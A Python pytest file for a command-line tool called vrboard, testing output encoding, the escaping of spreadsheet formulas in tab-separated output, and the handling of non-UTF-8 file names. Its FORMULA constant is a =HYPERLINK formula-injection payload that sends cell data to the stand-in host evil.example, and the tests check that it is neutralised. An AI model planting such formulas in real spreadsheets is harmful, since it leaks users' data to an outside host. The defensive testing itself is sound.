"""The command line's output: it follows the terminal's encoding without stopping (a cp1252
console gets "Nguy?n", not an error halfway through the list), and its tab-separated lists
keep what people typed as text (=HYPERLINK(...) is shown, never run by a spreadsheet)."""
from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import actor
from vrboard.cli.common import cell, row
from vrboard.store import Database

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _vrboard(db: Database, *argv: str, **env: str) -> subprocess.CompletedProcess[bytes]:
    full = {**os.environ, "PYTHONPATH": str(ROOT), **env}
    full.pop("VRBOARD_DATABASE_URL", None)
    return subprocess.run([sys.executable, "-m", "vrboard", "--db", db.url, "--as", "rkaplan", *argv],
                          capture_output=True, env=full, timeout=120)


@pytest.mark.parametrize("command", ["actions", "meetings"])
def test_a_legacy_code_page_replaces_what_it_cannot_show(demo_db: Database, command: str) -> None:
    from vrboard.services import meetings as meeting_svc

    with demo_db.transaction() as s:
        meeting_svc.create_meeting(s, actor(demo_db, "rkaplan"), dt.datetime(2031, 5, 1, 10, 0),
                                   title="Review with Nguyễn Thị Mai")
    done = _vrboard(demo_db, command, PYTHONIOENCODING="cp1252")
    assert done.returncode == 0, done.stderr.decode("cp1252", "replace")
    assert done.stderr == b""
    text = done.stdout.decode("cp1252")
    if command == "actions":
        assert "Nguy?n Th? Mai" in text  # "Nguyễn Thị Mai": ễ and ị are not in cp1252
        utf8 = _vrboard(demo_db, command).stdout.decode("utf-8")
        assert len(text.splitlines()) == len(utf8.splitlines()) > 40  # the whole list, not a part
    else:
        assert "Review with Nguy?n Th? Mai" in text and len(text.splitlines()) == 4


def test_formula_text_is_escaped_in_tab_separated_output(demo_db: Database) -> None:
    from vrboard.services import actions as act_svc
    from vrboard.services import board as board_svc
    from vrboard.services import meetings as meeting_svc

    sec = actor(demo_db, "rkaplan")
    with demo_db.transaction() as s:
        person = board_svc.add_person(s, sec, name=FORMULA)
        act_svc.create_action(s, sec, title="Check the links", workstream_id=1, owner_id=person.id,
                              reference="KC-900")
        meeting_svc.create_meeting(s, sec, dt.datetime(2031, 5, 1, 10, 0),
                                   title="@SUM(1+1)\tand\na second line")
    actions = _vrboard(demo_db, "actions").stdout.decode()
    (line,) = [x for x in actions.splitlines() if x.startswith("KC-900\t")]
    assert line.split("\t")[1] == "'" + FORMULA
    meetings = _vrboard(demo_db, "meetings").stdout.decode()
    (line,) = [x for x in meetings.splitlines() if "SUM" in x]
    fields = line.split("\t")
    assert len(fields) == 4 and fields[2] == "'@SUM(1+1) and a second line"
    for out in (actions, meetings):
        assert all(not f.startswith(("=", "+", "@")) for x in out.splitlines() for f in x.split("\t"))


def test_cells() -> None:
    assert [cell(v) for v in ("=1+1", "+44 20 7946 0000", "-5", "@x", "-", "", None, 42, "Ruth")] == [
        "'=1+1", "'+44 20 7946 0000", "'-5", "'@x", "-", "", "", "42", "Ruth"]
    assert row("a\tb", "c\r\nd") == "a b\tc d"


def test_file_names_that_are_not_utf8_are_reported_by_name(demo_db: Database, tmp_path: Path) -> None:
    from tests.excel.conftest import col, counts, edit, export, snapshot

    src = export(demo_db, "rkaplan", tmp_path / "t.xlsx").path
    latin1 = os.fsencode(tmp_path) + b"/caf\xe9.xlsx"  # made on a system using Latin-1
    edit(src, Path(os.fsdecode(latin1)), {f"{col('progress')}3": "Progress from a file with an old name."})
    before, audit = snapshot(demo_db), counts(demo_db)

    def run(*argv: str | bytes) -> subprocess.CompletedProcess[bytes]:
        return _vrboard(demo_db, *argv)  # type: ignore[arg-type]

    dry = run("import-actions", "--dry-run", latin1)  # the file is read (calamine gets it open)
    assert dry.returncode == 0 and b"Progress from a file with an old name." in dry.stdout
    done = run("import-actions", latin1)
    assert done.returncode == 1
    assert done.stderr.decode("ascii") == (
        "vrboard: The name caf\\xe9.xlsx is not valid text (it was made on a system using another "
        "character set), and vrboard records the names of the files it reads and writes. Nothing "
        "was saved; rename the file using plain letters and try again.\n")
    missing = run("import-actions", os.fsencode(tmp_path) + b"/gone\xe9.xlsx")
    assert missing.returncode == 1
    assert missing.stderr == b"vrboard: gone\\xe9.xlsx: was not found. Nothing was imported.\n"
    out = run("export-actions", os.fsencode(tmp_path) + b"/out\xe9.xlsx")
    assert out.returncode == 1 and b"The name out\\xe9.xlsx is not valid text" in out.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no .part
    assert snapshot(demo_db) == before and counts(demo_db) == audit
